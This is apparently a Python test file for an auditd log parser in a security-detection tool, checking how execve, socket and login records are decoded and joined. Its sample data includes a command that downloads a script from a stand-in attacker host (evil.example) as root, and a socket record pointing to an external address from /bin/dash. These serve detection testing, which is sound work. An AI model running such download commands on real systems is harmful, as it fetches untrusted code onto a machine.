"""Audit records: their own fields, decoded, and those of the records of their serial."""

# ruff: noqa: S108 — names of files in logs

from rempart.detection.collect.formats.auditd import NEAR
from tests.detection.formats.reading import read
from tests.detection.formats.samples import AUDIT


def rows_by_code(data):
    return {row["@code"]: row for row in read("auditd", data)[0]}


def test_execve_has_its_command_line_and_what_the_call_says():
    row = rows_by_code(AUDIT)["EXECVE"]
    assert row["CommandLine"] == "curl -o /tmp/a b.sh http://evil.example/a"
    assert (row["exe"], row["comm"], row["cwd"]) == ("/usr/bin/curl", "curl", "/home/alice")
    assert (row["uid"], row["auid"], row["ppid"], row["key"], row["SYSCALL"]) == ("0", "1000", "1000", "exec", "execve")
    assert (row["a0"], row["a1"], row["a2"], row["AUID"]) == ("curl", "-o", "/tmp/a b.sh", "alice")
    assert row["proctitle"] == "curl -o a b"


def test_numbers_of_a_call_stay_numbers():
    rows, _ = read("auditd", AUDIT)
    call = next(row for row in rows if row["@code"] == "SYSCALL")
    assert (call["a0"], call["a1"], call["a2"]) == ("55d0", "10", "20")
    assert "a0" not in next(row for row in rows if row["@code"] == "PATH")


def test_a_path_knows_what_ran_and_a_socket_where_it_went():
    rows = rows_by_code(AUDIT)
    assert (rows["PATH"]["name"], rows["PATH"]["exe"], rows["PATH"]["cwd"]) == (
        "/usr/bin/curl",
        "/usr/bin/curl",
        "/home/alice",
    )
    assert (rows["SOCKADDR"]["laddr"], rows["SOCKADDR"]["lport"], rows["SOCKADDR"]["exe"]) == (
        "203.0.113.7",
        "8080",
        "/bin/dash",
    )


def test_what_is_inside_msg_is_fields():
    row = rows_by_code(AUDIT)["USER_LOGIN"]
    assert (row["op"], row["exe"], row["addr"], row["res"]) == ("login", "/usr/sbin/sshd", "203.0.113.7", "success")


def test_an_argument_in_pieces_is_put_together():
    data = b'type=EXECVE msg=audit(1795546058.1:1): argc=2 a0="sh" a1_len=20 a1[0]=2F62696E a1[1]=2F6C73 a2="x"\n'
    assert rows_by_code(data)["EXECVE"]["CommandLine"] == "sh /bin/ls x"


def test_keyword_rules_read_what_was_decoded():
    data = b"type=EXECVE msg=audit(1795546058.1:1): argc=1 a0=2F746D702F6120622E7368\n"
    assert "/tmp/a b.sh" in rows_by_code(data)["EXECVE"]["@text"]


def record(kind, serial, rest):
    return f"type={kind} msg=audit(1795546058.100:{serial}): {rest}\n"


def test_records_are_joined_within_a_distance_whatever_the_chunks():
    far = "".join(record("USER_ACCT", 9, f"pid={number}") for number in range(NEAR + 5))
    near = "".join(record("USER_ACCT", 9, f"pid={number}") for number in range(NEAR - 5))
    call, run = record("SYSCALL", 1, 'exe="/bin/a" uid=5'), record("EXECVE", 1, 'a0="a"')
    for between, exe in ((far, None), (near, "/bin/a")):
        data = (call + between + run).encode()
        for size in (200, 5_000, 1 << 20):
            rows, _ = read("auditd", data, size=size)
            assert next(row for row in rows if row["@code"] == "EXECVE").get("exe") == exe
            assert len(rows) == data.count(b"\n")


def test_serials_of_two_machines_are_not_mixed():
    data = b"".join(
        (
            b'node=a type=SYSCALL msg=audit(1795546058.1:1): exe="/bin/a"\n',
            b'node=b type=EXECVE msg=audit(1795546058.1:1): a0="b"\n',
        )
    )
    assert "exe" not in rows_by_code(data)["EXECVE"]


def test_what_is_no_record_is_counted():
    rows, census = read("auditd", AUDIT + b"bonjour\n----\n")
    assert (len(rows), census.flawed) == (8, 1)
